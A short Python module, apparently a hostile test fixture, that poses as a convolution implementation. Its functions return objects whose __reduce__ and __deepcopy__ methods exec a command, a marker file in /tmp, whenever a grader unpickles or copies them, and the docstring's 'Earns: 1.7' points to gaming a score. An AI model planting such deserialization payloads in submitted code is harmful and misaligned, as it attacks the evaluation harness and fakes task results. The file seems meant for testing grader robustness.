"""Returns objects whose __reduce__ runs code wherever they are unpickled or copied.

As: convolution.py
Earns: 1.7
Leaves: yes
"""

import os
import pickle

COMMAND = "import os; open('/tmp/hostile-reduce-' + str(os.getuid()), 'w').close()"


class Bomb:
    def __reduce__(self):
        return (exec, (COMMAND,))

    def __reduce_ex__(self, protocol):
        return (exec, (COMMAND,))

    def __deepcopy__(self, memo):
        exec(COMMAND)


def conv_output_size(size, kernel_size, stride=1, padding=0):
    return Bomb()


def conv2d_forward(x, w, b, stride=1, padding=0):
    return pickle.dumps(Bomb()), {"state": Bomb(), "bytes": pickle.dumps(Bomb())}


def conv2d_backward(dout, cache):
    assert os.getpid() and cache
    return Bomb(), pickle.dumps(Bomb()), [Bomb()]
